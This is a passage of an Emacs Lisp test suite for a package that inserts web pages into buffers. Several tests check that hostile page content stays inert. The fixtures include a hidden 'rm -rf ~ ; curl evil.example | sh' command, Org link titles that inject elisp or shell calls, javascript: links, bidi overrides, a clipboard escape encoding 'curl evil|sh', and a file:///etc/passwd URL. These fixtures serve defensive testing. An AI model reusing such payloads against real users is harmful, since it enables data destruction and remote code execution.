    (insert-from-url (ifu-test-url "/images.html"))
    (ifu-test-wait-idle (current-buffer))
    (should (string-match-p (regexp-quote (ifu-test-url "/image.png")) (buffer-string)))
    (should-not (directory-files-recursively dir "\\.png\\'"))
    (let ((insert-from-url-images "img"))
      (should-not (insert-from-url--images-arguments "text")))))

(ert-deftest ifu-test-view-images ()
  "A view buffer's images are in a temporary folder, deleted with the buffer."
  (let* ((insert-from-url-view-format 'org)
         (buffer (cl-letf (((symbol-function 'display-images-p) (lambda (&rest _) t)))
                   (insert-from-url-view (ifu-test-url "/images.html"))))
         dir)
    (ifu-test-wait-idle buffer)
    (with-current-buffer buffer
      (setq dir insert-from-url--view-images)
      (should (file-directory-p dir))
      (should (= (length (ifu-test-files dir)) 1))
      (should (string-match-p (regexp-quote (concat "[[file:" dir "/")) (buffer-string))))
    (kill-buffer buffer)
    (should-not (file-exists-p dir))))

;;;; Rendering

(ert-deftest ifu-test-render ()
  "With `insert-from-url-render', a page built by its script arrives built."
  (skip-unless (or (executable-find "chromium") (executable-find "chromium-browser")
                   (executable-find "google-chrome")))
  (with-temp-buffer
    (org-mode)
    (let ((insert-from-url-render 'auto))
      (insert-from-url (ifu-test-url "/shell.html"))
      (ifu-test-wait-idle (current-buffer) 30)
      (should (string-match-p "^\\* Built\n\nText built by a script\\." (buffer-string))))
    (erase-buffer)
    (insert-from-url (ifu-test-url "/shell.html"))
    (ifu-test-wait-idle (current-buffer))
    (should-not (string-match-p "Built" (buffer-string)))))

(ert-deftest ifu-test-render-arguments ()
  "The option gives the program's flag."
  (should-not (member "--render" (insert-from-url--arguments "u" "org")))
  (let ((insert-from-url-render 'auto))
    (should (member "--render=auto" (insert-from-url--arguments "u" "org"))))
  (let ((insert-from-url-render t))
    (should (member "--render" (insert-from-url--arguments "u" "org")))))

;;;; Hostile pages (issue 20)

(defconst ifu-test-enriched-body
  (concat "Content-Type: text/enriched\nText-Width: 70\n\n"
          "<x-display><param>(display \"SAFE CONTENT\")</param>rm -rf ~ ; curl evil.example | sh</x-display>\n"
          "<x-color><param>red</param>colored</x-color>\n")
  "What /enriched serves (enrichedBody in elisp_test.go).")

(ert-deftest ifu-test-enriched-body-stays-text ()
  "A body that starts \"Content-Type: text/enriched\" arrives as it is, with no properties.
`insert-file-contents' would decode it: the screen would show
\"SAFE CONTENT\" while the buffer holds a shell command."
  (dolist (format '("raw" "text"))
    (with-temp-buffer
      (insert-from-url (ifu-test-url "/enriched") format)
      (ifu-test-wait-idle (current-buffer))
      (should (equal-including-properties (buffer-string) ifu-test-enriched-body))
      (should-not (next-property-change (point-min)))))
  (should (equal-including-properties (insert-from-url-string (ifu-test-url "/enriched"))
                                      ifu-test-enriched-body)))

(ert-deftest ifu-test-output-read-literally ()
  "Program output and stderr files are read as UTF-8 bytes: no format, no hook."
  (let ((file (make-temp-file "ifu-enriched"))
        (called nil))
    (unwind-protect
        (let ((after-insert-file-functions
               (list (lambda (n) (setq called t) n))))
          (let ((coding-system-for-write 'utf-8-unix))
            (with-temp-file file (insert ifu-test-enriched-body "é€😀\n")))
          (should (equal-including-properties (insert-from-url--read-output file)
                                              (concat ifu-test-enriched-body "é€😀\n")))
          (with-temp-buffer
            (insert-from-url--insert-utf-8-file file)
            (should (equal (buffer-string) (concat ifu-test-enriched-body "é€😀\n")))
            (should-not (next-property-change (point-min))))
          (should-not called))
      (delete-file file))))

(defconst ifu-test-hostile-titles
  '("a [[[elisp:(x)]]] b" "]]]" "x]" "[x" "%%(foo)" "<2026-12-02 Wed>"
    "<%%(diary-float t 3 4)> sexp" "a]][[elisp:(y)][b" "[[shell:touch x][Read]]"
    ;; Beat the old escape, one pass of [[ -> "[ [" and ]] -> "] ]",
    ;; into a live link: "] ]][ [[elisp:...][Read more] ]]".
    "]]][[[elisp:(shell-command \"touch /tmp/ifu-pwned\")][Read more]]]"
    "{{{date}}} @@html:<b>@@ <<<Emacs>>> <<t>>"
    "\\(x\\) \\[y\\] \\alpha \\foo{<script>a</script>} $<script>b</script>$"
    "src_sh{touch x} call_f()" "US$ 5 or $x$" "one\u2028two" "\u202eevil\u202c end")
  "Page titles that try to end, nest or add Org links and markup.")

(defun ifu-test-titled-url (title)
  "Return the test server's URL of a page titled TITLE."
  (ifu-test-url (concat "/titled?t=" (url-hexify-string title))))

(defun ifu-test-plain-title (title)
  "Return TITLE as the escaped text should read without its escapes."
  (replace-regexp-in-string
   "[ \t]*\u2028[ \t]*" " " (replace-regexp-in-string "[\u202a-\u202e]" "" title)))

(ert-deftest ifu-test-org-link-title-escaped ()
  "A hostile title gives one Org link to the page, and no markup of its own."
  (require 'org-element)
  (dolist (title ifu-test-hostile-titles)
    (with-temp-buffer
      (org-mode)
      (insert "See ")
      (let ((url (ifu-test-titled-url title)))
        (insert-from-url-link url)
        (ifu-test-wait-idle (current-buffer))
        (let* ((text (buffer-string))
               (tree (org-element-parse-buffer))
               (links (org-element-map tree 'link #'identity)))
          (ert-info ((format "title %S gave %S" title text))
            (should (= (length links) 1))
            (should (equal (org-element-property :type (car links)) "http"))
            (should (equal (org-element-property :raw-link (car links)) url))
            ;; The description is the title, give or take the escapes.
            (should (equal (replace-regexp-in-string
                            "\u200b" ""
                            (replace-regexp-in-string
                             "\\\\dollar{}" "$"
                             (buffer-substring-no-properties
                              (org-element-property :contents-begin (car links))
                              (org-element-property :contents-end (car links)))))
                           (ifu-test-plain-title title)))
            (should-not (org-element-map tree '(latex-fragment macro timestamp export-snippet
                                                target radio-target inline-src-block
                                                inline-babel-call footnote-reference)
                          #'identity))
            ;; What the agenda and the bracket-link search read.
            (should-not (string-match-p org-ts-regexp text))
            (should-not (string-match-p "%%" text))
            (should (= (how-many "\\[\\[" (point-min) (point-max)) 1))
            (should (= (how-many "\\]\\]" (point-min) (point-max)) 1))
            (should-not (string-match-p "\n" text))))))))

(ert-deftest ifu-test-org-link-title-in-table ()
  "In an Org table, a title's | neither splits the cell nor starts a formula."
  (require 'org-element)
  (with-temp-buffer
    (org-mode)
    (insert "| See  |\n")
    (goto-char 7)
    (insert-from-url-link (ifu-test-titled-url "a | :=(shell-command \"touch x\") | b"))
    (ifu-test-wait-idle (current-buffer))
    (let ((tree (org-element-parse-buffer)))
      (ert-info ((buffer-string))
        (should (= (length (org-element-map tree 'table-cell #'identity)) 1))
        (should (= (length (org-element-map tree 'link #'identity)) 1))))))

(ert-deftest ifu-test-markdown-link-title-escaped ()
  "A hostile title stays the text of one Markdown link; no two brackets touch."
  (dolist (title (append '("x](javascript:alert(1)) [y" "<javascript:alert(1)>" "`](x)`")
                         ifu-test-hostile-titles))
    (with-temp-buffer
      (markdown-mode)
      (let ((url (ifu-test-titled-url title)))
        (insert-from-url-link url)
        (ifu-test-wait-idle (current-buffer))
        (ert-info ((format "title %S gave %S" title (buffer-string)))
          (should (string-match
                   "\\`\\[\\(\\(?:[^][\\\\`<\n]\\|\\\\[^\n]\\)*\\)\\](\\([^)\n]*\\))\\'"
                   (buffer-string)))
          (should (equal (replace-regexp-in-string "\\\\\\(.\\)" "\\1" (match-string 1 (buffer-string)))
                         (ifu-test-plain-title title))))))))

(ert-deftest ifu-test-text-link-title-one-line ()
  "Elsewhere a title is one line without bidirectional controls."
  (with-temp-buffer
    (text-mode)
    (let ((url (ifu-test-titled-url "one\u2028two \u202eevil")))
      (insert-from-url-link url)
      (ifu-test-wait-idle (current-buffer))
      (should (equal (buffer-string) (format "one two evil <%s>" url))))))

(defconst ifu-test-terminal-cleaned
  (concat "(defun safe () \"ok\")0;open title\n(message \"kept\")\n"
          ";; evil isolate mark\nlink done\n12")
  "What /terminal leaves in a buffer of code.")

(ert-deftest ifu-test-raw-escapes-and-bidi-removed ()
  "An escape sequence left open swallows nothing; code loses its bidi controls."
  (dolist (mode '(emacs-lisp-mode html-mode))
    (with-temp-buffer
      (funcall mode)
      (insert-from-url (ifu-test-url "/terminal"))
      (ifu-test-wait-idle (current-buffer))
      (should (equal (buffer-string) ifu-test-terminal-cleaned))))
  (should (equal (insert-from-url-string (ifu-test-url "/terminal")) ifu-test-terminal-cleaned))
  (with-temp-buffer
    (insert "\e]0;title\n\e]52;c;Y3VybCBldmlsfHNo\e\\after\e[31mred\e[0m\e]8;;\e\\\e(B\u009b31m\e")
    (insert-from-url--clean-buffer t)
    (should (equal (buffer-string) "0;title\nafterred31m"))))

(ert-deftest ifu-test-prose-keeps-bidi ()
  "Prose in a text buffer keeps its bidirectional marks."
  (with-temp-buffer
    (text-mode)
    (insert-from-url (ifu-test-url "/prose") "text")
    (ifu-test-wait-idle (current-buffer))
    (should (equal (buffer-string) "\u05e9\u05dc\u05d5\u05dd\u200f!\n"))))

(ert-deftest ifu-test-capture-only-web-urls ()
  "`insert-from-url-capture' refuses any URL but http and https, before fetching."
  (dolist (url '("file:///etc/passwd" "/etc/passwd" "ftp://host/x" "http://" "javascript:alert(1)"
                 "http://host/a b" "http://host/\nx"))
    (let ((err (should-error (insert-from-url-capture url) :type 'user-error)))
      (should (string-match-p "only http and https" (cadr err)))))
  (should (insert-from-url--web-url-p "HTTPS://example.org"))
  (should (insert-from-url--web-url-p "http://127.0.0.1:8080/a?b=c#d")))

(defmacro ifu-test-with-capture (file &rest body)
  "Run BODY with FILE bound to a new Org file and the README's capture template."
  (declare (indent 1))
  `(let* ((,file (make-temp-file "ifu-capture" nil ".org"))
          (org-capture-templates
           `(("w" "Web article" entry (file ,,file)
              "%(insert-from-url-capture \"%:link\")" :immediate-finish t))))
     (unwind-protect
         (progn ,@body)
       (when-let ((b (find-buffer-visiting ,file)))
         (with-current-buffer b (set-buffer-modified-p nil))
         (kill-buffer b))
       (delete-file ,file))))

(defun ifu-test-org-protocol-capture (url)
  "Capture URL as the README's bookmarklet does, through org-protocol."
  ;; What `org-protocol-check-filename-for-protocol' does with
  ;; org-protocol://capture?template=w&url=..., short of the server.
  (org-protocol-capture
   (org-protocol-parse-parameters (concat "template=w&url=" (url-hexify-string url)) t)))

(defun ifu-test-captured (file)
  "Return what the capture put into FILE."
  (let ((b (find-buffer-visiting file)))
    (if b (with-current-buffer b (buffer-string))
      (with-temp-buffer (insert-file-contents file) (buffer-string)))))

(ert-deftest ifu-test-capture-refuses-local-file ()
  "The README's org-protocol template files no local file, and says why."
  (ifu-test-with-capture file
    (let ((secret (make-temp-file "ifu-secret")))
      (unwind-protect
          (progn
            (with-temp-file secret (insert "* SECRET local file\n"))
            (let ((err (should-error (ifu-test-org-protocol-capture (concat "file://" secret)))))
              (should (string-match-p "Capture template .w.:" (cadr err))))
            (should-not (string-match-p "SECRET" (ifu-test-captured file)))
            (with-current-buffer insert-from-url-log-buffer
              (should (string-match-p "only http and https URLs are captured" (buffer-string)))))
        (delete-file secret)))))

(ert-deftest ifu-test-capture-page-text-not-expanded ()
  "Page text that `org-capture' would expand stays text: no prompt, no kill ring."
  (ifu-test-with-capture file
    (let ((kill-ring '("SECRET-FROM-THE-KILL-RING"))
          (prompted nil))
      (cl-letf (((symbol-function 'read-string) (lambda (&rest _) (setq prompted t) "ANSWER"))
                ((symbol-function 'completing-read) (lambda (&rest _) (setq prompted t) "ANSWER"))
                ((symbol-function 'completing-read-multiple) (lambda (&rest _) (setq prompted t) nil))
                ((symbol-function 'org-read-date) (lambda (&rest _) (setq prompted t) (current-time))))
        (ifu-test-org-protocol-capture (ifu-test-url "/capture.html")))
      (should (ifu-test-wait (lambda () (string-match-p "council voted" (ifu-test-captured file)))))
      (let ((captured (ifu-test-captured file))
            (case-fold-search nil))
        (ert-info (captured)
          (should-not prompted)
          (should (string-match-p "^\\* Capture$" captured))
          (should (string-match-p "council voted" captured))
          (should-not (string-match-p "SECRET\\|ANSWER" captured))
          (should (string-match-p (regexp-quote "Name: %^{Name} clip: %^C tags: %^g answer: %\\1 escaped: \\%^t end.")
                                  captured)))))))

;;;; A new user's first hour (issue 22)

(ert-deftest ifu-test-warnings-summarised ()
  "Several warnings make one line that points to the log, where each names its page."
  (let ((messages nil) (url (ifu-test-url "/page.html")))
    (cl-letf (((symbol-function 'message)
               (lambda (fmt &rest args) (push (apply #'format fmt args) messages))))
      (insert-from-url--report-warnings
       url '("insert-from-url: warning: image not stored, its link kept: HTTP 404: http://x/a.png"
             "insert-from-url: warning: image not stored, its link kept: HTTP 404: http://x/b.png"
             "insert-from-url: warning: no article found")))
    (should (equal (car messages)
                   "insert-from-url: 2 images not stored and 1 warning; see *insert-from-url-log*"))
    (with-current-buffer insert-from-url-log-buffer
      (should (string-match-p (regexp-quote (format "no article found (%s)" url)) (buffer-string))))))

(ert-deftest ifu-test-markdown-file-without-mode ()
  "A buffer visiting a .md file gets Markdown, whatever its mode."
  (let ((file (make-temp-file "ifu-note" nil ".md")))
    (unwind-protect
        (with-current-buffer (find-file-noselect file)
          (fundamental-mode)
          (should (equal (insert-from-url--format-for-buffer) "markdown"))
          (set-buffer-modified-p nil)
          (kill-buffer))
      (delete-file file))))

(ert-deftest ifu-test-text-article-keeps-urls ()
  "A plain-text article keeps its link URLs."
  (with-temp-buffer
    (text-mode)
    (insert-from-url-article (ifu-test-url "/links-article.html"))
    (ifu-test-wait-idle (current-buffer))
    (should (string-match-p (regexp-quote (ifu-test-url "/elsewhere")) (buffer-string)))))

(ert-deftest ifu-test-links-in-region-one-undo ()
  "Turning a region's URLs into links is one undo step; <URL> loses its brackets."
  (let ((a (ifu-test-url "/title.html"))
        (b (ifu-test-url "/slow-title.html")))
    (with-temp-buffer
      (org-mode)
      (buffer-enable-undo)
      (insert (format "- <%s>\n- %s\n- %s\n" a b a))
      (undo-boundary)
      (insert-from-url-links-in-region (point-min) (point-max))
      (ifu-test-wait (lambda () (string-match-p "Slow Title" (buffer-string))) 10)
      (ifu-test-wait-idle (current-buffer))
      (should (equal (buffer-string)
                     (format "- [[%s][Example Title]]\n- [[%s][Slow Title]]\n- [[%s][Example Title]]\n" a b a)))
      (let ((last-command nil)) (undo))
      (should (equal (buffer-string) (format "- <%s>\n- %s\n- %s\n" a b a))))))

(ert-deftest ifu-test-cancel-counts-queued ()
  "Cancelling a region's run stops its one process, counts the pages not in, and changes nothing."
  (let ((url (ifu-test-url "/slow-title.html"))
        (insert-from-url-link-parallel 2))
    (with-temp-buffer
      (text-mode)
      (dotimes (_ 5) (insert url "\n"))
      (let ((before (buffer-string)) msg)
        (insert-from-url-links-in-region (point-min) (point-max))
        (cl-letf (((symbol-function 'message)
                   (lambda (fmt &rest args) (setq msg (apply #'format fmt args)))))
          (insert-from-url-cancel))
        (should (equal msg "Cancelled 1 fetch (5 pages not in yet)"))
        (ifu-test-wait (lambda () nil) 1.2)
        (should-not insert-from-url--processes)
        (should (equal (buffer-string) before))))))

(ert-deftest ifu-test-link-angle-brackets-and-untitled ()
  "A link replaces the angle brackets around its URL; a page without a title links its URL alone."
  (let ((url (ifu-test-url "/title.html")))
    (with-temp-buffer
      (org-mode)
      (insert "see <" url "> here")
      (goto-char 10)
      (insert-from-url-link (insert-from-url--default-url))
      (ifu-test-wait-idle (current-buffer))
      (should (equal (buffer-string) (format "see [[%s][Example Title]] here" url)))))
  (let ((url (ifu-test-url "/hello")))
    (dolist (case `((org-mode . ,(format "[[%s]]" url))
                    (markdown-mode . ,(format "<%s>" url))
                    (text-mode . ,url)))
      (with-temp-buffer
        (funcall (car case))
        (insert-from-url-link url)
        (ifu-test-wait-idle (current-buffer))
        (should (equal (buffer-string) (cdr case)))))))


(ert-deftest ifu-test-view-images-text-frame ()
  "On a frame that cannot show images, the reader stores none and shows their text."
  (should-not (display-images-p))
  (let ((buffer (insert-from-url-view (ifu-test-url "/images.html"))))
    (unwind-protect
        (with-current-buffer buffer
          (ifu-test-wait-idle buffer)
          (should-not insert-from-url--view-images)
          (should-not (string-match-p "file:" (buffer-string)))
          (should (string-match-p (regexp-quote (ifu-test-url "/image.png")) (buffer-string))))
      (kill-buffer buffer))))

(ert-deftest ifu-test-view-cleanup-at-exit ()
  "Image folders of views left open and output files of fetches in flight go at exit."
  (let* ((buffer (cl-letf (((symbol-function 'display-images-p) (lambda (&rest _) t)))
                   (insert-from-url-view (ifu-test-url "/images.html"))))
         (dir (buffer-local-value 'insert-from-url--view-images buffer))
         (outs (lambda () (directory-files temporary-file-directory nil "\\`insert-from-url.*\\.out\\'")))
         before)
    (unwind-protect
        (progn
          (ifu-test-wait-idle buffer)
          (setq before (funcall outs))
          (should (file-directory-p dir))
          (with-temp-buffer
            (insert-from-url (ifu-test-url "/stall") "raw")
            (should (> (length (funcall outs)) (length before)))
            (should (memq #'insert-from-url--kill-emacs kill-emacs-hook))
            (insert-from-url--kill-emacs)
            (should-not (file-exists-p dir))
            (should (equal (funcall outs) before))))
      (kill-buffer buffer))))

(ert-deftest ifu-test-view-same-url-one-buffer ()
  "Viewing a URL twice shows the one buffer; g during a fetch restarts it."
  (let ((a (insert-from-url-view (ifu-test-url "/slow.html"))))
    (unwind-protect
        (with-current-buffer a
          (insert-from-url-view-reload)
          (should (= (length insert-from-url--processes) 1))
          (should (eq (insert-from-url-view (ifu-test-url "/slow.html")) a))
          (should (= (length insert-from-url--processes) 1))
          (ifu-test-wait-idle a)
          (should (equal (buffer-name) "*Slow page*"))
          (should (eq (insert-from-url-view (ifu-test-url "/slow.html")) a)))
      (kill-buffer a))))


(ert-deftest ifu-test-capture-does-not-wait ()
  "In a template, capture files a placeholder at once and fills it when the page comes."
  (ifu-test-with-capture file
    (let ((start (float-time)))
      (ifu-test-org-protocol-capture (ifu-test-url "/slow.html"))
      (should (< (- (float-time) start) 0.8)))
    (let ((captured (ifu-test-captured file)))
      (should (string-match-p "\\`\\* Fetching http://127\\.0\\.0\\.1:[0-9]+/slow\\.html\\.\\.\\.\n:PROPERTIES:\n:URL: http" captured)))
    (should (ifu-test-wait (lambda () (string-match-p "Slow page" (ifu-test-captured file)))))
    (let ((captured (ifu-test-captured file)))
      (ert-info (captured)
        (should (string-match-p "\\`\\* Slow page\n:PROPERTIES:\n:RETRIEVED: \\[" captured))
        (should (string-match-p "A paragraph long enough" captured))
        (should-not (string-match-p "Fetching\\|INSERT_FROM_URL" captured))))
    ;; The capture saved the file, and so does the fill.
    (should (string-match-p "A paragraph long enough"
                            (with-temp-buffer (insert-file-contents file) (buffer-string))))
    (should-not (buffer-modified-p (find-buffer-visiting file)))))

(ert-deftest ifu-test-capture-nested-and-killed-buffer ()
  "A capture under a heading gets its levels; a target buffer the capture killed is visited again."
  (let* ((file (make-temp-file "ifu-capture" nil ".org" "* Inbox\n"))
         (org-capture-templates
          `(("w" "Web article" entry (file+headline ,file "Inbox")
             "%(insert-from-url-capture \"%:link\")" :immediate-finish t :kill-buffer t))))
    (unwind-protect
        (progn
          (ifu-test-org-protocol-capture (ifu-test-url "/article.html"))
          (should-not (find-buffer-visiting file))
          (should (ifu-test-wait (lambda () (string-match-p "council voted" (ifu-test-captured file)))))
          (should-not (find-buffer-visiting file))
          (let ((captured (ifu-test-captured file)))
            (ert-info (captured)
              (should (string-prefix-p "* Inbox\n** Bridge vote\n:PROPERTIES:\n" captured))
              (should (string-match-p "^\\*\\*\\* Next steps$" captured)))))
      (delete-file file))))

(ert-deftest ifu-test-capture-failure-keeps-url ()
  "A capture whose fetch fails keeps its entry, with the URL and the reason."
  (ifu-test-capturing-reports reports
    (ifu-test-with-capture file
      (ifu-test-org-protocol-capture (ifu-test-url "/missing"))
      (should (ifu-test-wait (lambda () (string-match-p "ERROR" (ifu-test-captured file)))))
      (let ((captured (ifu-test-captured file)))
        (ert-info (captured)
          (should (string-match-p (concat "\\`\\* http://127\\.0\\.0\\.1:[0-9]+/missing\\.\\.\\.\n:PROPERTIES:\n:URL: "
                                          (regexp-quote (ifu-test-url "/missing"))
                                          "\n:INSERT_FROM_URL_ERROR: insert-from-url: HTTP 404")
                                  captured))))
      (should (string-match-p "HTTP 404.*keeps the URL" (car reports))))))

(ert-deftest ifu-test-capture-waits-visibly ()
  "Outside a template, capture says it fetches at once, stops on C-g, and gives up sooner than fetches."
  (should (< insert-from-url-capture-timeout insert-from-url-timeout))
  (let ((messages nil))
    (cl-letf (((symbol-function 'message)
               (lambda (fmt &rest args) (push (apply #'format fmt args) messages))))
      ;; C-g during the wait, as in the filter of an emacsclient request
      ;; (where `inhibit-quit' is t).
      (let* ((timer (run-at-time 0.3 nil (lambda () (setq quit-flag t))))
             (start (float-time))
             (err (let ((inhibit-quit t))
                    (prog1 (condition-case e (insert-from-url-capture (ifu-test-url "/stall"))
                             (error e))
                      (setq quit-flag nil)))))
        (cancel-timer timer)
        (should (< (- (float-time) start) 3))
        (should (eq (car err) 'user-error))
        (should (string-match-p "stopped waiting" (cadr err))))
      (should (member (format "Fetching %s..." (ifu-test-url "/stall")) messages)))
    (should (ifu-test-wait (lambda () (null (ifu-test-leftover-buffers))))))
  (let* ((insert-from-url-capture-timeout 1)
         (start (float-time))
         (err (should-error (insert-from-url-capture (ifu-test-url "/stall")))))
    (should (< (- (float-time) start) 5))
    (should (string-match-p "insert-from-url-capture-timeout" (cadr err)))))

(ert-deftest ifu-test-capture-sync-option ()
  "With `insert-from-url-capture-async' nil, the template gets the article itself."
  (ifu-test-with-capture file
    (let ((insert-from-url-capture-async nil))
      (ifu-test-org-protocol-capture (ifu-test-url "/article.html"))
      (should (string-match-p "\\`\\* Bridge vote\n:PROPERTIES:\n:RETRIEVED: " (ifu-test-captured file))))))



(defun ifu-test-type (string)
  "Type STRING at point, a character at a time, while fetches run."
  (dolist (c (string-to-list string))
    (insert c)
    (accept-process-output nil 0.01)))

(defmacro ifu-test-in-window (&rest body)
  "Run BODY in a new buffer shown in the selected window."
  (declare (indent 0))
  `(let ((buffer (generate-new-buffer "ifu-window"))
         (old (window-buffer)))
     (unwind-protect
         (with-current-buffer buffer
           (set-window-buffer (selected-window) buffer)
           ,@body)
       (set-window-buffer (selected-window) old)
       (kill-buffer buffer))))

(ert-deftest ifu-test-typing-stays-together ()
  "Text typed during a fetch stays whole, before the page; point and window stay."
  (ifu-test-in-window
    (org-mode)
    (buffer-enable-undo)
    (insert "Some text about what I read.")
    (insert-from-url (ifu-test-url "/slow.html"))
    (ifu-test-type " I keep typing here while it loads.")
    (should insert-from-url--processes)
    (let ((typed-end (point))
          (start (window-start)))
      (ifu-test-wait-idle (current-buffer))
      (should (string-prefix-p
               "Some text about what I read. I keep typing here while it loads.\n* Slow page\n\nA paragraph"
               (buffer-string)))
      (should (= (point) typed-end))
      (should (= (window-point) typed-end))
      (should (= (window-start) start))
      ;; One undo takes the page away, and only the page.
      (undo-boundary)
      (let ((last-command nil)) (undo))
      (should (equal (buffer-string) "Some text about what I read. I keep typing here while it loads.")))))

(ert-deftest ifu-test-typing-mid-line ()
  "Typing mid-line during a fetch keeps the line whole; the page goes after it."
  (ifu-test-in-window
    (text-mode)
    (insert "The quick brown fox\njumps.\n")
    (goto-char (point-min))
    (search-forward "quick ")
    (insert-from-url (ifu-test-url "/slow.html"))
    (execute-kbd-macro "red ")
    (ifu-test-type "and ")
    (should insert-from-url--processes)
    (let ((typed-end (point)))
      (ifu-test-wait-idle (current-buffer))
      (should (string-prefix-p "The quick red and brown fox\nSlow page\n=========\n" (buffer-string)))
      (should (string-suffix-p "window.\njumps.\n" (buffer-string)))
      (should (= (point) typed-end)))))

(ert-deftest ifu-test-block-keeps-line-whole ()
  "A converted page asked for mid-line goes after the line; point follows it."
  (with-temp-buffer
    (org-mode)
    (insert "The quick brown fox\nmore")
    (goto-char 11)
    (insert-from-url (ifu-test-url "/page.html"))
    (ifu-test-wait-idle (current-buffer))
    (should (string-prefix-p "The quick brown fox\n* Page heading\n" (buffer-string)))
    (should (string-suffix-p "More.\nmore" (buffer-string)))
    (should (= (point) (- (point-max) 4)))))

(ert-deftest ifu-test-blocks-keep-start-order ()
  "Two converted pages asked for at one place come out in the order they started."
  (with-temp-buffer
    (org-mode)
    (insert "Line")
    (insert-from-url (ifu-test-url "/slow.html"))
    (insert-from-url (ifu-test-url "/page.html"))
    (ifu-test-wait-idle (current-buffer))
    (should (string-match-p "\\`Line\n\\* Slow page\n\\(?:.\\|\n\\)*\n\\* Page heading\n" (buffer-string))))
  (with-temp-buffer
    (org-mode)
    (insert "Line")
    (insert-from-url (ifu-test-url "/page.html"))
    (ifu-test-wait-idle (current-buffer))
    (goto-char 5)
    (insert-from-url (ifu-test-url "/title.html"))
    (ifu-test-wait-idle (current-buffer))
    (should (string-match-p "\\`Line\n\\* Other\n\\* Page heading\n" (buffer-string)))))

(ert-deftest ifu-test-org-insertion-not-cut ()
  "In an Org buffer that truncates lines, paragraphs come wrapped at `fill-column'."
  (with-temp-buffer
    (org-mode)
    (should truncate-lines)
    (insert-from-url (ifu-test-url "/long.html"))
    (ifu-test-wait-idle (current-buffer))
    (should (> (count-lines (point-min) (point-max)) 3))
    (dolist (line (split-string (buffer-string) "\n"))
      (should (<= (string-width line) fill-column))))
  ;; Where lines wrap at word boundaries, a paragraph stays one line.
  (with-temp-buffer
    (org-mode)
    (visual-line-mode 1)
    (insert-from-url (ifu-test-url "/long.html"))
    (ifu-test-wait-idle (current-buffer))
    (should (= (count-lines (point-min) (point-max)) 1)))
  (with-temp-buffer
    (org-mode)
    (let ((insert-from-url-fill nil))
      (insert-from-url (ifu-test-url "/long.html"))
      (ifu-test-wait-idle (current-buffer))
      (should (= (count-lines (point-min) (point-max)) 1)))
    ;; A string for Lisp code does not depend on the buffer.
    (should (= (length (split-string (insert-from-url-string (ifu-test-url "/long.html") "text") "\n" t)) 1))))

(ert-deftest ifu-test-view-wraps-lines ()
  "The reader wraps long lines at word boundaries instead of cutting them."
  (let ((buffer (insert-from-url-view (ifu-test-url "/slow.html"))))
    (unwind-protect
        (with-current-buffer buffer
          (ifu-test-wait-idle buffer)
          (should visual-line-mode)
          (should-not truncate-lines)
          (should word-wrap)
          (should (string-match-p "^A paragraph .\\{200,\\}$" (buffer-string))))
      (kill-buffer buffer)))
  (let* ((insert-from-url-view-visual-line nil)
         (buffer (insert-from-url-view (ifu-test-url "/article.html"))))
    (unwind-protect
        (with-current-buffer buffer
          (ifu-test-wait-idle buffer)
          (should-not visual-line-mode)
          (dolist (line (split-string (buffer-string) "\n"))
            (should (<= (string-width line) fill-column))))
      (kill-buffer buffer))))

(ert-deftest ifu-test-heading-start-level ()
  "At the start of a heading line, the page goes before it at the previous entry's levels."
  (with-temp-buffer
    (org-mode)
    (insert "* Reading list\nsome\n** Building\nbody\n")
    (goto-char (point-min))
    (search-forward "** Building")
    (beginning-of-line)
    (insert-from-url (ifu-test-url "/page.html"))
    (ifu-test-wait-idle (current-buffer))
    (should (string-match-p
             "\\`\\* Reading list\nsome\n\\*\\* Page heading\n\\(?:.\\|\n\\)*\n\\*\\*\\* Sub heading\n\\(?:.\\|\n\\)*\n\\*\\* Building\nbody\n\\'"
             (buffer-string))))
  (with-temp-buffer
    (org-mode)
    (insert "* Top\n")
    (goto-char (point-min))
    (insert-from-url (ifu-test-url "/page.html"))
    (ifu-test-wait-idle (current-buffer))
    (should (string-prefix-p "* Page heading\n" (buffer-string)))
    (should (string-suffix-p "\n* Top\n" (buffer-string)))))

;;;; The machine protocol (issue 26)

(ert-deftest ifu-test-record-from-stderr ()
  "The record is the line that starts with {, among the meter's redraws and messages."
  (let* ((rec "{\"url_effective\":\"http://x/\",\"http_code\":404,\"exitcode\":22,\"errormsg\":\"HTTP 404 Not Found: http://x/\",\"converted\":0,\"warnings\":[\"w1\"]}")
         (stderr (concat "\r\e[K1.0 KiB  1.0 KiB/s\r\e[Kinsert-from-url: warning: w1\n" rec
                         "\ninsert-from-url: HTTP 404 Not Found: http://x/ {\"exitcode\":0}\n"))
         (record (insert-from-url--stderr-record stderr)))
    (should (equal (plist-get record :exitcode) 22))
    (should (equal (plist-get record :warnings) '("w1")))
    (should (equal (insert-from-url--record-warnings record) '("insert-from-url: warning: w1")))
    (should-not (insert-from-url--converted-p record))
    ;; A message's braces, or text that is no JSON, is no record.
    (should-not (insert-from-url--stderr-record "insert-from-url: {\"exitcode\":0}\n{not json\n"))
    (should (equal (insert-from-url--progress (concat "\r\e[K3/20 pages\n" rec "\n")) "3/20 pages"))))

(ert-deftest ifu-test-failure-condition ()
  "A failure's condition: the error symbol by kind, the hint by kind, the data as documented."
  (let ((err (insert-from-url--failure "http://x/" 28 'timeout "timed out after 1s: http://x/")))
    (should (eq (car err) 'insert-from-url-timeout-error))
    (should (equal (cadr err) "insert-from-url: timed out after 1s: http://x/ (`insert-from-url-timeout')"))
    (should (equal (insert-from-url-error-get err :exit-code) 28))
    (should (eq (insert-from-url-error-get err :kind) 'timeout))
    (should (equal (insert-from-url-error-get err :url) "http://x/"))
    (should-not (insert-from-url-error-get err :status)))
  ;; A flag the message names is reworded, and the hint is not said twice.
  (should (equal (cadr (insert-from-url--failure "u" 63 'too-large "body larger than 5 bytes (--max-size): u"))
                 "insert-from-url: body larger than 5 bytes (`insert-from-url-max-size'): u"))
  (should (equal (cadr (insert-from-url--failure "u" 23 'binary-refused "binary body (image/png)"))
                 "insert-from-url: binary body (image/png) (not inserted)"))
  (let ((err (insert-from-url--failure "u" 22 'http "HTTP 404" 404)))
    (should (eq (car err) 'insert-from-url-http-error))
    (should (equal (insert-from-url-error-get err :status) 404))
    (should (memq 'insert-from-url-error (get (car err) 'error-conditions)))))

(ert-deftest ifu-test-string-signals-fetch-error ()
  "`insert-from-url-string' signals `insert-from-url-error' with code, kind, status and URL."
  (let* ((url (ifu-test-url "/missing"))
         (caught (condition-case err (insert-from-url-string url "text")
                   (insert-from-url-http-error err))))
    (should (eq (car caught) 'insert-from-url-http-error))
    (should (string-match-p "\\`insert-from-url: HTTP 404 Not Found: " (cadr caught)))
    (should (equal (insert-from-url-error-get caught :exit-code) 22))
